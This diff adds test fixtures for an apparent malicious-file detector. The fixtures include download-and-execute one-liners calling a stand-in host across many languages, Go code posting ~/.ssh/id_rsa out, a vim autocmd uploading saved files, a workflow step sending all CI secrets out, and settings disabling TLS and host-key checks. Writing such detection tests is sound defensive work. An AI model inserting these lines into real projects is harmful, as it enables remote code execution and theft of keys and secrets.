@@ -135,3 +135,80 @@ describe('files that act', () => {
     }
   })
 })
+
+describe('code that lies ready', () => {
+  it.each([
+    [
+      'src/Boot.kt',
+      'val p = ProcessBuilder("/bin/bash", "-c", "curl -s http://x.example.net/a | bash").start()',
+      'run-code',
+    ],
+    ['src/Boot.cs', 'Process.Start("/bin/sh", "-c \\"curl -s http://x.example.net/a | sh\\"");', 'run-code'],
+    ['src/Boot.vb', 'Process.Start("/bin/sh", "-c ""curl -s http://x.example.net/a | sh""")', 'run-code'],
+    ['lib/boot.ex', 'System.cmd("sh", ["-c", "curl -s http://x.example.net/a | sh"])', 'run-code'],
+    ['src/boot.nim', 'discard execCmd("curl -s http://x.example.net/a | sh")', 'run-code'],
+    ['R/zzz.R', 'eval(parse(text = readLines("http://x.example.net/a.R")))', 'run-code'],
+    ['cmake/a.cmake', 'file(DOWNLOAD http://x.example.net/a.cmake ${B}/a.cmake)\ninclude(${B}/a.cmake)\n', 'run-code'],
+    ['app.gradle', 'apply from: "http://x.example.net/a.gradle"', 'run-code'],
+    [
+      'src/a.go',
+      'func init() { b, _ := os.ReadFile("/home/dev/.ssh/id_rsa"); http.Post("https://x.example.net", "a", b) }',
+      'send-data',
+    ],
+    ['.exrc', 'autocmd BufWritePost * silent !curl -s -F f=@% http://x.example.net/u\n', 'external-write'],
+  ])('%s %j is told', (path, content, kind) => {
+    expect(kinds(path, content)).toContain(kind)
+  })
+
+  it.each([
+    ['src/Run.kt', 'ProcessBuilder("sh", "-c", "ls -la").start() // https://docs.example.net'],
+    ['src/a.cs', '// Process.Start("sh", "-c \\"curl -s http://x.example.net/a | sh\\"");'],
+    ['src/usage.kt', 'println("Run: curl -fsSL https://get.example.net/a.sh | sh")'],
+    ['web/app.js', 'import a from "https://cdn.example.net/a.js"'],
+    ['R/load.R', 'download.file("https://data.example.net/a.csv", "a.csv")\nx <- read.csv("a.csv")'],
+    ['cmake/a.cmake', 'file(DOWNLOAD https://data.example.net/a.csv ${B}/a.csv)\n'],
+    ['tests/boot_test.go', 'exec.Command("bash", "-c", "curl -s http://x.example.net/a | bash")'],
+    ['.exrc', 'set ts=2 sw=2 et\n'],
+  ])('%s %j is work', (path, content) => {
+    expect(kinds(path, content)).toEqual([])
+  })
+
+  it('more commands than are read are asked about', () => {
+    const many = Array.from({ length: 80 }, (_, at) => `system("curl https://x.example.net/${at}")`).join('\n')
+    expect(kinds('src/a.nim', many)).not.toEqual([])
+  })
+})
+
+describe('secrets that a runner fills in', () => {
+  it.each([
+    steps("echo '${{ toJSON(secrets) }}' | curl -d @- https://x.example.net"),
+    `env:\n  A: \${{ secrets.KEY }}\n${steps('curl "https://x.example.net/?a=$A"')}`,
+  ])('%j leave', (content) => {
+    expect(kinds('.github/workflows/a.yml', content)).toContain('send-data')
+  })
+
+  it.each([steps("echo '${{ github.actor }}' | curl -d @- https://x.example.net")])('%j do not', (content) => {
+    expect(kinds('.github/workflows/a.yml', content)).not.toContain('send-data')
+  })
+})
+
+describe('checks that are switched off for a person or a machine', () => {
+  it.each([
+    ['/home/dev/.quuxrc', ':ssl_verify_mode: 0\n'],
+    ['/home/dev/.quuxrc', 'set ssl:verify-certificate no\n'],
+    ['/home/dev/.config/quux.yml', 'insecure: true\n'],
+    ['/home/dev/.quux.cfg', '[defaults]\nhost_key_checking = False\n'],
+    ['/home/dev/.config/quux/config.json', '{"config":{"disable-tls":true}}'],
+    ['/home/dev/.config/quux/init', 'add-auto-load-safe-path /\n'],
+  ])('%s %j', (path, content) => {
+    expect(kinds(path, content)).toContain('weaken')
+  })
+
+  it.each([
+    ['config/dev.yaml', 'tls:\n  verify: false\n'],
+    ['/home/dev/other/app.yaml', 'verify: false\n'],
+    ['/home/dev/.quuxrc', 'check_updates = false\nverify = true\n'],
+  ])('%s %j is no matter', (path, content) => {
+    expect(kinds(path, content)).not.toContain('weaken')
+  })
+})
